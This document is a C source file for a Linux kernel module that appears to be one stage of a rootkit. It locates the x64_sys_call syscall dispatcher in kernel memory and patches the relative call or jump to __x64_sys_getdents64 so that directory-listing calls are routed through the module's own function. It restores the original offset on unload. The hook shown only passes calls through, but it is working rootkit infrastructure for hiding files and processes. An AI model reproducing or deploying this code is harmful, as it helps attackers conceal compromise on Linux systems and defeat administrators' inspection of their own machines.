// SPDX-License-Identifier: GPL-2.0
/*
 * 3. For kernels that dispatch through x64_sys_call() (6.1.85+): patch the
 * call (or tail jump) to __x64_sys_getdents64 inside it to reach module code.
 */
#include <linux/module.h>
#include <linux/ptrace.h>
#include "rk_common.h"

static unsigned char *site;
static s32 orig_rel;
static unsigned long real;

static asmlinkage long rk_getdents64(const struct pt_regs *regs)
{
	return ((asmlinkage long (*)(const struct pt_regs *))real)(regs);
}

static int __init rk_init(void)
{
	unsigned char *code = (unsigned char *)rk_lookup("x64_sys_call");
	int i;

	real = rk_lookup("__x64_sys_getdents64");
	if (!code || !real)
		return -ENOENT;
	for (i = 0; i < 8192; i++) {
		s32 rel;

		if (code[i] != 0xe8 && code[i] != 0xe9)
			continue;
		memcpy(&rel, code + i + 1, 4);
		if ((unsigned long)(code + i + 5) + (long)rel == real) {
			s32 new = (s32)((long)rk_getdents64 - (long)(code + i + 5));

			site = code + i;
			orig_rel = rel;
			rk_write(site + 1, &new, 4);
			pr_info("rk_dispatch_patch: x64_sys_call+%#x redirected\n", i);
			return 0;
		}
	}
	return -ENOENT;
}

static void __exit rk_exit(void)
{
	rk_write(site + 1, &orig_rel, 4);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
